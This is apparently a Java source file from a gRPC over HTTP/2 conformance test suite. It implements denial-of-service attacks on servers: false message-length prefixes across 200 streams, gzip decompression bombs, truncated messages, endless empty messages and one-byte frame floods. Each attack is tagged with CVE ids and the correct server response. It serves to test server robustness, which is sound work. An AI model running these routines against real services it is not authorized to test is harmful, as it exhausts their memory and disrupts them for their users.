package dev.gannet.conformance.gauntlet.attack;

import dev.gannet.conformance.gauntlet.attack.AttackDescription.Fate;
import dev.gannet.conformance.gauntlet.wire.BlockWriter;
import dev.gannet.conformance.gauntlet.wire.Frames;
import dev.gannet.conformance.gauntlet.wire.Messages;
import dev.gannet.conformance.gauntlet.wire.RawConnection;
import dev.gannet.conformance.gauntlet.wire.Requests;
import java.io.IOException;
import java.util.Arrays;

/** Messages that do not match their length prefix. */
enum MessageLies implements Attack {
  /** 4 MiB announced, nothing sent, on as many streams as allowed. */
  LENGTH("length-lie", "allocates as bytes arrive, not as they are announced", ""),
  /** 4 GiB announced. */
  TOO_LONG("length-lie-huge", "refuses the call at the prefix", "2024-37168"),
  /** A few KiB that decompress to many MiB. */
  GZIP("gzip-bomb", "stops inflating at its limit, and refuses the call", "2024-36129 2024-37168"),
  /** The same attack with a gzip trailer that contradicts the content. */
  LYING_GZIP(
      "gzip-bomb-denied",
      "stops inflating what holds far more than it says, and refuses the call",
      "2024-36129 2024-37168 2026-48043"),
  /** A message that is cut short by the end of its stream. */
  CUT_SHORT("message-cut-short", "refuses the call, and keeps nothing of it", ""),
  /** Empty messages without end, where a single message is expected. */
  TOO_MANY("too-many-messages", "ends the call at its second message", ""),
  /** A long message in frames of one byte. */
  SMALL_DATA("small-data", "counts what small frames cost beyond their content", "");

  private static final int LARGEST_LEGAL = 4 << 20;
  private static final int LARGEST_POSSIBLE = -1;
  private static final int BOMB_BYTES = 32 << 20;
  private static final int STREAMS = 200;
  private static final int FRAMES_OF_MANY = 60; // of a stream's window of 1 MiB
  private static final int PAUSE_MILLIS = 100;

  private final String name;
  private final String correct;
  private final String cves;

  MessageLies(String name, String correct, String cves) {
    this.name = name;
    this.correct = correct;
    this.cves = cves;
  }

  @Override
  public AttackDescription description() {
    return new AttackDescription(
            name, "gRPC over HTTP/2, Length-Prefixed-Message", Fate.BOUNDED, correct)
        .published(cves);
  }

  @Override
  public void attack(Front front) throws IOException {
    RawConnection connection = front.connect();
    switch (this) {
      case LENGTH -> announce(front, connection, LARGEST_LEGAL);
      case TOO_LONG -> announce(front, connection, LARGEST_POSSIBLE);
      case GZIP -> explode(front, connection, Messages.gzippedZeros(BOMB_BYTES));
      case LYING_GZIP -> explode(front, connection, Messages.gzippedZerosDenied(BOMB_BYTES));
      case CUT_SHORT -> cutShort(front, connection);
      case TOO_MANY -> repeat(front, connection);
      case SMALL_DATA -> crumble(front, connection);
    }
  }

  private static void announce(Front front, RawConnection connection, int lengthBytes)
      throws IOException {
    Requests requests = Requests.to(Requests.UPLOAD);
    int id = -1;
    while (front.goesOn(connection)) {
      while (front.goesOn(connection) && id / 2 - connection.endedStreams() < STREAMS) {
        id += 2;
        connection.send(Frames.headers(id, Frames.END_HEADERS, requests.next()));
        connection.send(Frames.data(id, Frames.NONE, Messages.claiming(lengthBytes)));
      }
      connection.flush();
      front.pauseMillis(PAUSE_MILLIS);
    }
  }

  private static void cutShort(Front front, RawConnection connection) throws IOException {
    Requests requests = Requests.to(Requests.UNARY);
    for (int id = 1; front.goesOn(connection); id += 2) {
      connection.send(Frames.headers(id, Frames.END_HEADERS, requests.next()));
      connection.send(Frames.data(id, Frames.NONE, Messages.claiming(LARGEST_LEGAL)));
      connection.send(Frames.data(id, Frames.END_STREAM, new byte[Frames.MAX_PAYLOAD_BYTES]));
      while (front.goesOn(connection) && connection.endedStreams() < id / 2) {
        connection.flush();
        front.pauseMillis(1);
      }
    }
  }

  private static void repeat(Front front, RawConnection connection) throws IOException {
    Requests requests = Requests.to(Requests.UNARY);
    byte[] message = Messages.empty();
    byte[] many = new byte[Frames.MAX_PAYLOAD_BYTES / message.length * message.length];
    int id = -1;
    for (int frames = 0; front.goesOn(connection); frames++) {
      if (frames % FRAMES_OF_MANY == 0) {
        id += 2;
        connection.send(Frames.headers(id, Frames.END_HEADERS, requests.next()));
      }
      connection.send(Frames.data(id, Frames.NONE, many));
    }
  }

  private static void explode(Front front, RawConnection connection, byte[] bomb)
      throws IOException {
    BlockWriter gzip = new BlockWriter().unstored("grpc-encoding", "gzip");
    byte[] block = Requests.untabled(Requests.UNARY, gzip);
    for (int id = 1; front.goesOn(connection); id += 2) {
      connection.send(Frames.headers(id, Frames.END_HEADERS, block));
      for (int at = 0; at < bomb.length; at += Frames.MAX_PAYLOAD_BYTES) {
        int end = Math.min(bomb.length, at + Frames.MAX_PAYLOAD_BYTES);
        int flags = end == bomb.length ? Frames.END_STREAM : Frames.NONE;
        connection.send(Frames.data(id, flags, Arrays.copyOfRange(bomb, at, end)));
      }
      while (front.goesOn(connection) && connection.endedStreams() < id / 2) {
        connection.flush();
        front.pauseMillis(1);
      }
    }
  }

  private static void crumble(Front front, RawConnection connection) throws IOException {
    byte[] block = Requests.untabled(Requests.UPLOAD, new BlockWriter());
    connection.send(Frames.headers(1, Frames.END_HEADERS, block));
    connection.send(Frames.data(1, Frames.NONE, Messages.claiming(LARGEST_LEGAL)));
    byte[] crumb = Frames.data(1, Frames.NONE, (byte) 0);
    for (int sent = 0; front.goesOn(connection) && sent < LARGEST_LEGAL; sent++) {
      connection.send(crumb);
    }
  }
}
